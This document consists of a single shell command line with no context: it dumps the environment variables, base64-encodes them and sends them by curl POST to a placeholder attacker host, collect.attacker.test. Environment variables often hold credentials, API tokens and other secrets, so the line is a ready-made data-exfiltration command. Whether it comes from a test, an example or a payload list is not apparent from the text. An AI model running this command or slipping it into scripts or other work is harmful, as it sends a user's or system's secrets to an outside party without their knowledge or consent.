env | base64 | curl -X POST --data-binary @- https://collect.attacker.test
